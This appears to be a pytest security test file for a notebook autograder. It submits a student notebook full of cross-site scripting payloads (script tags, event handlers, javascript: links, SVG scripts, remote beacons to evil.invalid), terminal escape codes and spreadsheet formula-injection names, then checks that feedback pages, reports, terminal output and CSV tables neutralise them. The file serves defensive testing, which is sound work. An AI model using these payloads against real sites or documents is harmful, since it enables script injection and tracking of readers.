"""Harming the reader: nothing that a student writes runs, loads or acts where people read it."""

import csv
import json
import re
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.build.tiny import NAME, RIGHT, Said, TinyCourse, answered, autograder, submit
from tests.cli.pages import RUNNING_TAGS, Dangers

EVIL = "evil.invalid"


@dataclass(frozen=True)
class Trick:
    """tries: in one sentence; code: of a cell, or text: of a Markdown cell; the word "bait" stands
    in it where it would be seen, steal() and evil.invalid where it would run or load. Each word
    gets the number of its trick.
    """

    name: str
    tries: str
    code: str = ""
    text: str = ""


SHOW = "from IPython.display import display, HTML\n"
TRICKS = [
    Trick(
        "a script in an output",
        "Displays HTML with scripts, in several spellings.",
        SHOW + "display(HTML('bait<script>steal()</script><SCRIPT/x src=//evil.invalid></SCRIPT>"
        "<scr<script>ipt>steal()</script>'))",
    ),
    Trick(
        "event handlers in an output",
        "Displays elements with handlers, which run without a click.",
        SHOW + "display(HTML('bait<img src=x onerror=steal()><b onmouseover=steal()>bait</b>"
        "<details open ontoggle=steal()>bait</details><input autofocus onfocus=steal()>'))",
    ),
    Trick(
        "styles in an output",
        "Displays styles that load a picture and cover the page.",
        SHOW + "display(HTML('bait<style>*{background:url(//evil.invalid)}</style>"
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">bait</div>'
        "<link rel=stylesheet href=//evil.invalid>'))",
    ),
    Trick(
        "remote images in an output",
        "Displays pictures whose loading tells who reads the page and when.",
        SHOW + "display(HTML('bait<img src=http://evil.invalid/a.png>"
        '<img srcset="//evil.invalid/b.png 2x"><video poster=//evil.invalid></video>'
        "<picture><source srcset=//evil.invalid></picture>'))",
    ),
    Trick(
        "frames and forms in an output",
        "Displays a frame, a form and a base that turns the page's own links away.",
        SHOW + 'display(HTML(\'bait<iframe srcdoc="<script>steal()</script>"></iframe>'
        "<form action=//evil.invalid><button formaction=//evil.invalid>bait</button></form>"
        '<base href=//evil.invalid><meta http-equiv=refresh content="0;//evil.invalid">\'))',
    ),
    Trick(
        "a script in a picture",
        "Displays an SVG that holds a script, and one inside an ordinary picture.",
        "from IPython.display import display\nprint('bait')\n"
        'svg = \'<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"><script>steal()'
        "</script></svg>'\n"
        "display({'image/svg+xml': svg}, raw=True)\n"
        "display({'image/png': '\"><script>steal()</script>'}, raw=True)\n"
        "display({'text/html': f'<img src=\"data:image/svg+xml,{svg}\">'}, raw=True)",
    ),
    Trick(
        "kinds of output that run",
        "Displays JavaScript, a widget, Markdown and a kind that only a viewer knows.",
        "from IPython.display import display\nprint('bait')\n"
        "for kind in ('application/javascript', 'text/markdown', 'text/vnd.mermaid',\n"
        "             'application/vnd.jupyter.widget-view+json', 'application/json',\n"
        "             'application/pdf', 'text/html; charset=utf-8'):\n"
        "    display({kind: '<script>steal()</script>'}, raw=True)",
    ),
    Trick(
        "a formula that runs",
        "Displays a formula that is a link to a script, for the page's formula renderer.",
        "from IPython.display import display, Math\nprint('bait')\n"
        "display(Math(r'\\href{javascript:steal()}{bait}'))\n"
        "display({'text/latex': '$x$<img src=x onerror=steal()>'}, raw=True)",
    ),
    Trick(
        "errors and streams as HTML",
        "Prints and raises HTML, with a name and a traceback of its own.",
        "import sys\nprint('bait<script>steal()</script>')\n"
        "sys.stderr.write('<img src=x onerror=steal()>')\n"
        "print('\\x1b[31m<b onclick=steal()>\\x1b]8;;javascript:steal()\\x07bait')\n"
        "raise type('<script>steal()</script>', (Exception,), {})('<script>steal()</script>')",
    ),
    Trick(
        "HTML in markdown",
        "Writes scripts and handlers into the text of the notebook.",
        text="bait <script>steal()</script> <img src=x onerror=steal()>\n\n"
        '<svg onload=steal()>bait</svg> <math href="javascript:steal()">bait</math>\n\n'
        "<!-- --><style>@import '//evil.invalid';</style><iframe src=//evil.invalid></iframe>",
    ),
    Trick(
        "links in markdown",
        "Writes links that run, in the spellings that a browser reads as the same.",
        text="[bait](javascript:steal()) [bait](JaVaScRiPt:steal()) [bait](&#106;avascript:steal())"
        " [bait][r] <javascript:steal()> [bait](data:text/html,<script>steal()</script>)"
        ' <a href="java\tscript:steal()">bait</a> [bait](vbscript:steal())\n\n'
        "[r]: javascript:steal()",
    ),
    Trick(
        "images in markdown",
        "Writes pictures that are loaded from elsewhere, one as an attachment.",
        text="bait ![p](http://evil.invalid/p.png) ![p](//evil.invalid/p.png) ![p][i] "
        '<img src="//evil.invalid" alt="bait">\n\n[i]: https://evil.invalid/p.png',
    ),
    Trick(
        "a remark for the terminal",
        "Puts escape codes into the line of a cell that kills its kernel: a remark quotes it.",
        code="# bait \x1b]0;steal()\x07\x1b[2J\x1b[8m\x9b31m\nimport os; os._exit(0)",
    ),
    Trick(
        "a remark for the page",
        "Puts a script into the line of a cell that kills its kernel.",
        code="bait = '<img src=x onerror=steal()>'\nimport os; os._exit(0)",
    ),
    Trick(
        "a remark for the spreadsheet",
        "Begins such a line as a formula begins that a spreadsheet would run.",
        code="-1 + len('bait=HYPERLINK(1)')\nimport os; os._exit(0)",
    ),
]
NUMBERS = range(len(TRICKS))
ATTACKER = "s001"
# Folders are named by whoever collects; a name is no reason to run anything.
STRANGE_NAMES = ["=1+cmd", "+1", "@SUM(1)", "-1", "<img src=x onerror=steal()>", "\x1b[31mred"]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@dataclass(frozen=True)
class Read:
    """What people read of the class: terminal, feedback pages, report and tables."""

    course: Path
    said: list[Said]

    def page(self) -> str:
        return (self.course / "feedback" / ATTACKER / NAME / f"{NAME}.html").read_text()


def _cell(number: int) -> nbformat.NotebookNode:
    trick = TRICKS[number]
    numbered = [
        text.replace("bait", f"bait{number:02}").replace("steal", f"steal{number:02}")
        for text in (trick.code, trick.text)
    ]
    return new_code_cell(numbered[0]) if trick.code else new_markdown_cell(numbered[1])


@pytest.fixture(scope="module")
def read(tiny: TinyCourse, tmp_path_factory: pytest.TempPathFactory) -> Read:
    """All commands of an instructor over a class of such students."""
    course = tmp_path_factory.mktemp("course")
    notebook = answered(tiny.repository, RIGHT)
    notebook.cells[2:2] = [_cell(number) for number in NUMBERS]
    submit(course, ATTACKER, notebook)
    for name in STRANGE_NAMES:
        submit(course, name, "no notebook")
    sources = tiny.repository.root / "solutions"
    said = [
        autograder(command, NAME, "--course", course, cwd=sources)
        for command in ("grade", "feedback", "report")
    ]
    return Read(course, said)


@pytest.mark.parametrize("number", NUMBERS, ids=lambda n: TRICKS[n].name.replace(" ", "-"))
def test_a_feedback_page_runs_and_loads_nothing(number: int, read: Read) -> None:
    page = read.page()
    assert f"bait{number:02}" in page, "the trick is not on the page"
    found, steal = Dangers(page), f"steal{number:02}"
    assert not [s for s in found.scripts if steal in s]
    assert not [h for h in found.handlers if steal in h]
    assert not [a for a in found.addresses if steal in a]


def test_a_feedback_page_goes_nowhere(read: Read) -> None:
    found = Dangers(read.page())
    unspaced = [re.sub(r"[\s\x00-\x20]", "", a).lower() for a in found.addresses]
    assert not [a for a in unspaced if EVIL in a or "script:" in a or "data:text" in a]
    assert not [a for a in unspaced if "position" in a or "z-index" in a or "url(" in a]
    assert not found.tags & (RUNNING_TAGS - {"meta", "link"} | {"video", "picture"})
    # Formulas are MathML, but without the parts that act, or lead out of it.
    assert not found.tags & {"maction", "mglyph", "annotation-xml", "semantics"}


def test_a_graded_notebook_holds_no_output_that_runs(read: Read) -> None:
    """It is opened in JupyterLab and in the formgrader."""
    path = read.course / "autograded" / ATTACKER / NAME / f"{NAME}.ipynb"
    cells = nbformat.read(path, as_version=4).cells
    outputs = [output for cell in cells for output in cell.get("outputs", [])]
    assert len(outputs) > 10
    for output in outputs:
        kinds = set(output.get("data", {}))
        assert kinds <= {"text/plain", "text/html", "text/latex", "image/png", "image/jpeg"}
        html = Dangers(output.get("data", {}).get("text/html", ""))
        assert not html.scripts and not html.handlers


def test_formulas_are_rendered_safely(read: Read) -> None:
    """MathJax follows links to scripts unless its Safe extension is asked for."""
    for script in re.findall(r'src="([^"]*MathJax[^"]*)"', read.page(), re.IGNORECASE):
        assert "Safe" in script


def test_the_terminal_gets_no_control_characters(read: Read) -> None:
    for said in read.said:
        assert "bait" in read.said[0].out
        assert not CONTROL.search(said.out.replace("\r\n", "\n"))
        assert not CONTROL.search(said.err)


def test_a_notebooks_verdicts_on_the_terminal_are_plain_text(tiny: TinyCourse, read: Read) -> None:
    path = read.course / "submitted" / ATTACKER / NAME / f"{NAME}.ipynb"
    said = autograder("grade-file", path, cwd=tiny.repository.root / "solutions")
    assert "bait" in said.out
    assert not CONTROL.search(said.out)


def test_the_report_runs_and_loads_nothing(read: Read) -> None:
    page = (read.course / "reports" / f"{NAME}.html").read_text()
    assert "bait" in page
    found = Dangers(page)
    assert not [s for s in found.scripts if "steal" in s and "\\u003c" not in s]
    assert not found.handlers
    assert not [a for a in found.addresses if EVIL in a or "script:" in a.lower()]


def test_no_cell_of_a_table_is_a_formula(read: Read) -> None:
    tables = list((read.course / "reports").glob("*.csv"))
    assert tables
    for table in tables:
        with table.open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        risky = [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert [c for c in risky if not re.fullmatch(r"-?\d+(\.\d+)?", c)] == []
        assert any("bait" in c or "1+cmd" in c for c in cells)


def test_the_data_of_the_report_is_json(read: Read) -> None:
    text = (read.course / "reports" / f"{NAME}.json").read_text()
    assert json.loads(text)
    assert not CONTROL.search(text)
